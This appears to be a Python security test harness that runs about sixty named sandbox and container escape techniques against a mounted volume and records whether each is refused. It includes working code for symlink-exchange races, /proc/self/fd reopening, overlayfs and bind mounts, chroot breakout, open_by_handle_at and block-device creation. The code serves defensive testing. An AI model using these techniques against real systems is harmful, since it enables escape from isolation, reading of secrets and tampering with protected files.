# What a workspace tries that is root in its own user and mount namespace, with nothing but the volume at /vol. One attempt
# after another: a line of JSON with the outcome, then a line from the test, which looks at the trail in between.
# An attempt gives what it got hold of; an error is what it was refused with. The names say the public technique.
import ctypes, errno, fcntl, json, os, stat, struct, sys, threading

V = '/vol'
RO, RW, DENY = V + '/project', V + '/project/out', V + '/secret'
libc = ctypes.CDLL(None, use_errno=True)
attempts = []


def attempt(name, technique):
    return lambda action: attempts.append((name, technique, action))


def check(number):
    if number < 0:
        raise OSError(ctypes.get_errno(), 'refused')
    return number


def read(path):
    with open(path) as file:
        return file.read()


def write(path, how=os.O_WRONLY):
    fd = os.open(path, how)
    os.write(fd, b'OWNED')
    os.close(fd)
    return 'wrote'


def fresh(name):
    path = RW + '/' + name
    if os.path.lexists(path):
        os.unlink(path)
    return path


@attempt('dot-dot', 'CWE-22 path traversal')
def _():
    return read(RO + '/../secret/key')


@attempt('dot-dot from a directory descriptor', 'CWE-22, openat with a relative path')
def _():
    fd = os.open(RW, os.O_RDONLY)
    return os.read(os.open('../../secret/key', os.O_RDONLY, dir_fd=fd), 99).decode()


@attempt('redundant slashes and dots', 'CWE-41 path equivalence')
def _():
    return read(V + '//.///secret/./key')


@attempt('another case', 'CWE-178 case sensitivity')
def _():
    return read(V + '/SECRET/key')


@attempt('another normal form', 'CWE-176 Unicode encoding')
def _():
    return read(V + '/s\u0065\u0301cret/key')


@attempt('a neighbour with the same beginning', 'CVE-2025-53110, prefix match of an allowed directory')
def _():
    return read(V + '/project-private/key')


@attempt('a relative symbolic link', 'CWE-59 link following')
def _():
    os.symlink('../../secret/key', fresh('l1'))
    return read(RW + '/l1')


@attempt('a symbolic link through /proc/self/root', 'CVE-2019-5736, magic links')
def _():
    os.symlink('/proc/self/root/vol/secret/key', fresh('l2'))
    return read(RW + '/l2')


@attempt('a symbolic link through /proc/self/cwd', 'CVE-2024-21626, a leaked working directory')
def _():
    os.chdir(RW)
    os.symlink('/proc/self/cwd/../../secret/key', fresh('l3'))
    return read(RW + '/l3')


@attempt('links exchanged while they are followed', 'CVE-2021-30465, symlink exchange race')
def _():
    os.makedirs(RW + '/race/secret', exist_ok=True)
    open(RW + '/race/secret/key', 'w').close()
    os.symlink('../..', fresh('up'))
    over = threading.Event()

    def swap():
        while not over.is_set():
            libc.renameat2(-100, (RW + '/race').encode(), -100, (RW + '/up').encode(), 2)

    thread = threading.Thread(target=swap)
    thread.start()
    got, last = '', None
    try:
        for _ in range(3000):
            for base in (RW + '/race', RW + '/up'):
                try:
                    got += read(base + '/secret/key')
                except OSError as error:
                    last = error if error.errno == errno.EACCES else last
    finally:
        over.set()
        thread.join()
    if got == '' and last is not None:
        raise last
    return got


@attempt('a hard link to what may only be read', 'CWE-62 hard link, then writing')
def _():
    os.link(RO + '/main.c', fresh('h1'))
    return write(RW + '/h1')


@attempt('a hard link to what is denied', 'CWE-62 hard link')
def _():
    os.link(DENY + '/key', fresh('h2'))
    return read(RW + '/h2')


@attempt('a hard link by descriptor', 'linkat on /proc/self/fd')
def _():
    fd = os.open(RO + '/main.c', os.O_RDONLY)
    check(libc.linkat(-100, b'/proc/self/fd/%d' % fd, -100, fresh('h3').encode(), 0x400))
    return write(RW + '/h3')


@attempt('the denied directory moved out', 'rename across the boundary')
def _():
    os.rename(DENY, RW + '/moved')
    return read(RW + '/moved/key')


@attempt('a read-only file moved out', 'rename across the boundary')
def _():
    os.rename(RO + '/main.c', RW + '/main.c')
    return write(RW + '/main.c')


@attempt('a file moved over a read-only one', 'rename over')
def _():
    open(RW + '/evil', 'w').write('OWNED')
    os.rename(RW + '/evil', RO + '/main.c')
    return 'replaced'


@attempt('exchanged with a read-only file', 'renameat2 RENAME_EXCHANGE')
def _():
    open(RW + '/evil', 'w').write('OWNED')
    check(libc.renameat2(-100, (RW + '/evil').encode(), -100, (RO + '/main.c').encode(), 2))
    return 'exchanged'


@attempt('the writable directory moved away and replaced by a link', 'CVE-2017-1002101, subpath replaced by a link')
def _():
    os.rename(RW, RO + '/gone')
    os.symlink('../secret', RW)
    return read(RW + '/key')


@attempt('the parent of what is denied moved', 'rename of an ancestor')
def _():
    os.rename(RW + '/cache', RW + '/cache2')
    return read(RW + '/cache2/keys/key')


@attempt('the parent of what is denied exchanged', 'renameat2 RENAME_EXCHANGE of an ancestor')
def _():
    os.makedirs(RW + '/other', exist_ok=True)
    check(libc.renameat2(-100, (RW + '/other').encode(), -100, (RW + '/cache').encode(), 2))
    return read(RW + '/other/keys/key')


@attempt('what is denied removed and made again', 'replacing a protected directory')
def _():
    os.rmdir(RW + '/cache/keys')
    os.mkdir(RW + '/cache/keys')
    return 'replaced'


@attempt('a read-only descriptor opened again for writing', 'CVE-2019-5736, /proc/self/fd')
def _():
    fd = os.open(RO + '/main.c', os.O_RDONLY)
    return write('/proc/self/fd/%d' % fd)


@attempt('an O_PATH descriptor opened for writing', '/proc/self/fd of O_PATH')
def _():
    fd = os.open(RO + '/main.c', os.O_PATH)
    return write('/proc/self/fd/%d' % fd)


@attempt('truncated by a descriptor for reading', 'O_RDONLY with O_TRUNC')
def _():
    os.close(os.open(RO + '/main.c', os.O_RDONLY | os.O_TRUNC))
    return 'truncated' if os.stat(RO + '/main.c').st_size == 0 else ''


@attempt('truncated by path', 'truncate(2)')
def _():
    os.truncate(RO + '/main.c', 0)
    return 'truncated'


@attempt('made writable first', 'chmod before writing')
def _():
    os.chmod(RO + '/main.c', 0o777)
    return 'changed'


@attempt('owned first', 'chown before writing')
def _():
    os.chown(RO + '/main.c', 0, 0)
    return 'changed'


@attempt('times turned back', 'MITRE ATT&CK T1070.006 timestomp')
def _():
    os.utime(RO + '/main.c', (1, 1))
    return 'changed'


@attempt('something made beside what may be read', 'writing into a read-only directory')
def _():
    return write(RO + '/evil', os.O_CREAT | os.O_WRONLY)


@attempt('a link made beside what may be read', 'planting a link')
def _():
    os.symlink('/etc/passwd', RO + '/evil')
    return 'made'


@attempt('a socket bound beside what may be read', 'bind(2) of a Unix socket')
def _():
    import socket

    socket.socket(socket.AF_UNIX).bind(RO + '/evil.sock')
    return 'made'


@attempt('a read-only file removed', 'MITRE ATT&CK T1070.004 file deletion')
def _():
    os.unlink(RO + '/main.c')
    return 'removed'


@attempt('a character device as a whiteout', 'overlayfs whiteout, mknod without CAP_MKNOD')
def _():
    os.mknod(fresh('dev'), stat.S_IFCHR | 0o666, 0)
    return 'made'


@attempt('file capabilities', 'MITRE ATT&CK T1548, security.capability of a user namespace')
def _():
    open(RW + '/tool', 'w').close()
    value = struct.pack('<IIIIII', 0x03000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0, 0)
    os.setxattr(RW + '/tool', 'security.capability', value)
    return 'set'


@attempt('an attribute of a read-only file', 'setxattr')
def _():
    os.setxattr(RO + '/main.c', 'user.evil', b'1')
    return 'set'


@attempt('a directory that folds case', 'FS_IOC_SETFLAGS FS_CASEFOLD_FL: two spellings become one name')
def _():
    os.makedirs(RW + '/folds', exist_ok=True)
    fd = os.open(RW + '/folds', os.O_RDONLY)
    fcntl.ioctl(fd, 0x40086602, struct.pack('l', 0x40000000))
    return 'set'


@attempt('an ioctl of the file system below', 'FS_IOC_ADD_ENCRYPTION_KEY')
def _():
    fd = os.open(RW + '/tool', os.O_RDWR | os.O_CREAT)
    fcntl.ioctl(fd, 0xC0506617, bytearray(80))
    return 'done'


@attempt('an overlay on the volume', 'CVE-2023-0386, overlayfs in a user namespace')
def _():
    for name in ('u', 'w', 'm'):
        os.makedirs('/tmp/' + name, exist_ok=True)
    options = b'lowerdir=/vol,upperdir=/tmp/u,workdir=/tmp/w'
    if libc.mount(b'overlay', b'/tmp/m', b'overlay', 0, options) != 0:
        read(DENY + '/key')  # no overlay here: straight at it
    return read('/tmp/m/secret/key')


@attempt('a bind mount of what is denied', 'mount --bind inside the namespace')
def _():
    os.makedirs('/tmp/b', exist_ok=True)
    check(libc.mount((DENY).encode(), b'/tmp/b', None, 4096, None))
    return read('/tmp/b/key')


@attempt('a remount for writing', 'MITRE ATT&CK T1611, remount')
def _():
    libc.mount(b'none', b'/vol', None, 32 | 4096, None)
    return write(RO + '/main.c')


@attempt('a change of root and up again', 'the classic chroot breakout')
def _():
    os.makedirs(RW + '/jail', exist_ok=True)
    pid = os.fork()
    if pid == 0:
        code = 0
        try:
            top = os.open('/', os.O_RDONLY)
            os.chroot(RW + '/jail')
            os.fchdir(top)
            for _ in range(64):
                os.chdir('..')
            os.chroot('.')
            os._exit(7 if 'SECRET' in read('/vol/secret/key') else 0)
        except OSError as error:
            code = error.errno
        os._exit(100 + code if code < 100 else 99)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status > 100:
        raise OSError(status - 100, 'refused')
    return 'SECRET' if status == 7 else ''


@attempt('another user namespace inside', 'nested namespaces')
def _():
    pid = os.fork()
    if pid == 0:
        code = 99
        try:
            check(libc.unshare(0x10000000 | 0x00020000))
            os._exit(7 if 'SECRET' in read(DENY + '/key') else 0)
        except OSError as error:
            code = 100 + error.errno
        os._exit(code)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status > 100:
        raise OSError(status - 100, 'refused')
    return 'SECRET' if status == 7 else ''


@attempt('run instead of read', 'execve of what is denied')
def _():
    os.posix_spawn(DENY + '/key', ['key'], {})
    return 'ran'


@attempt('copied by the kernel', 'copy_file_range from what is denied')
def _():
    source = os.open(DENY + '/key', os.O_RDONLY)
    target = os.open(fresh('copy'), os.O_RDWR | os.O_CREAT)
    os.copy_file_range(source, target, 99)
    return read(RW + '/copy')


@attempt('a mount point below the volume', 'a mount of the node inside the source')
def _():
    return read(RO + '/mounted/key')


@attempt('a hard link made by the node, found by its other name', 'CWE-62, met under both names')
def _():
    try:
        os.stat(RO + '/linked')
    except OSError:
        pass
    return write(RW + '/linked')


@attempt('whether something exists', 'CWE-203, existence told by the kind of error')
def _():
    seen = []
    for name in ('key', 'nothing'):
        try:
            os.stat(DENY + '/' + name)
        except OSError as error:
            seen.append(error.errno)
    if seen[0] != seen[1] or 'secret' in os.listdir(V):
        return 'told'
    raise OSError(seen[0], 'refused')


@attempt('an archive with a link to go through', 'CVE-2007-4559, extraction through a link')
def _():
    os.symlink('..', fresh('member'))
    return write(RW + '/member/evil', os.O_CREAT | os.O_WRONLY)


@attempt('a link to nothing, made something', 'CWE-61, creating through a dangling link')
def _():
    os.symlink('../dangling', fresh('dangling'))
    return write(RW + '/dangling', os.O_CREAT | os.O_WRONLY)


@attempt('a directory moved out from under a descriptor', 'CVE-2015-2925, dot-dot after a rename')
def _():
    os.makedirs(RW + '/deep/er', exist_ok=True)
    fd = os.open(RW + '/deep/er', os.O_RDONLY)
    os.rename(RW + '/deep/er', RW + '/er')
    try:
        return os.read(os.open('../../../secret/key', os.O_RDONLY, dir_fd=fd), 99).decode()
    finally:
        os.rmdir(RW + '/er')


@attempt('a script whose interpreter is denied', 'MITRE ATT&CK T1059, the kernel opens it for the script')
def _():
    with open(fresh('script'), 'w') as file:
        file.write('#!' + DENY + '/key\n')
    os.chmod(RW + '/script', 0o755)
    os.posix_spawn(RW + '/script', ['script'], {})
    return 'ran'


@attempt('a detached copy of the mount', 'open_tree(2) with OPEN_TREE_CLONE')
def _():
    check(libc.syscall(428, -100, DENY.encode(), 1))
    return 'cloned'


@attempt('a socket in what is denied', 'MITRE ATT&CK T1611, an exposed control socket')
def _():
    import socket

    socket.socket(socket.AF_UNIX).connect(DENY + '/control.sock')
    return 'connected'


@attempt('what is denied watched', 'CWE-203, inotify tells of every access')
def _():
    return check(libc.inotify_add_watch(check(libc.inotify_init()), DENY.encode(), 0xFFF))


@attempt('by handle', 'Shocker (2014), open_by_handle_at')
def _():
    handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128), 136)
    mount = ctypes.c_int()
    check(libc.name_to_handle_at(-100, (RO + '/main.c').encode(), handle, ctypes.byref(mount), 0))
    fd = os.open(V, os.O_RDONLY)
    return os.read(check(libc.open_by_handle_at(fd, handle, os.O_RDWR)), 99).decode()


@attempt('a device of the disk', 'MITRE ATT&CK T1611, mknod of a block device')
def _():
    os.mknod(fresh('disk'), stat.S_IFBLK | 0o666, os.makedev(254, 0))
    return read(RW + '/disk')


@attempt('shared memory of a file for reading', 'mmap PROT_WRITE, mprotect')
def _():
    import mmap

    fd = os.open(RO + '/main.c', os.O_RDONLY)
    with mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE) as seen:
        seen[0:1] = b'X'
    return 'wrote'


def outcome(action):
    try:
        return {'got': action()}
    except OSError as error:
        return {'error': errno.errorcode.get(error.errno, str(error.errno))}


for name, technique, action in attempts:
    print(json.dumps({'name': name, 'technique': technique, **outcome(action)}), flush=True)
    sys.stdin.readline()
